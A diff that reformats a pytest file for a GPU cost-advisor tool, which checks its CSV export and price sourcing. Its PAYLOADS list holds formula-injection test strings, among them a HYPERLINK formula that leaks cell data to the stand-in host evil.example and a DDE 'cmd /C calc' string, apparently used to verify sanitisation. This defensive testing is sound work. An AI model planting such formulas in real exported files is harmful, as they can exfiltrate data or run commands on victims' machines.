@@ -11,7 +11,6 @@ from pathlib import Path
 
 import pandas as pd
 import pytest
-
 from gpu_advisor.core import proposal as P
 from gpu_advisor.core.catalog import Catalog, load_bundled
 from gpu_advisor.core.problems import CatalogError
@@ -19,8 +18,14 @@ from gpu_advisor.core.scenario import load_scenario
 from gpu_advisor.core.select import recommend
 
 EXAMPLES = Path(__file__).resolve().parents[2] / "examples"
-PAYLOADS = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,2)",
-            "\t=1+1", "\r=1+1"]
+PAYLOADS = [
+    '=HYPERLINK("http://evil.example/?"&A1,"x")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(1,2)",
+    "\t=1+1",
+    "\r=1+1",
+]
 
 
 @pytest.fixture(scope="module")
@@ -59,8 +64,7 @@ def test_csv_has_bom_and_round_trips_through_pandas_with_the_same_numbers(rec, c
                 assert row["unit_price"] == pytest.approx(line.unit_price, abs=6e-7)
         # the bill adds up: priced lines sum to the option's total
         assert rows["cost"].sum() == pytest.approx(opt.total_cost, abs=0.01 * len(rows))
-    assert df["option"].iloc[0] == "recommendation" and set(df["option"].iloc[1:]) <= {"recommendation",
-                                                                                     "alternative"}
+    assert df["option"].iloc[0] == "recommendation" and set(df["option"].iloc[1:]) <= {"recommendation", "alternative"}
     assert df.loc[df["item"] == "gpu_instance", "price_source"].str.len().min() > 0  # every instance price sourced
 
 
@@ -155,8 +159,11 @@ def test_price_sources_name_the_catalog_row_of_every_priced_line(rec, cat):
     kinds = {s.kind for s in sources}
     assert "instance" in kinds
     opt = rec.recommendation
-    inst = [s for s in sources if s.kind == "instance" and s.provider == opt.provider
-            and s.product.startswith(opt.instance_type)]
+    inst = [
+        s
+        for s in sources
+        if s.kind == "instance" and s.provider == opt.provider and s.product.startswith(opt.instance_type)
+    ]
     assert inst and inst[0].source and inst[0].as_of == opt.price_as_of
     if any(ln.fx_rate is not None for ln in opt.cost_lines):
         assert "fx" in kinds
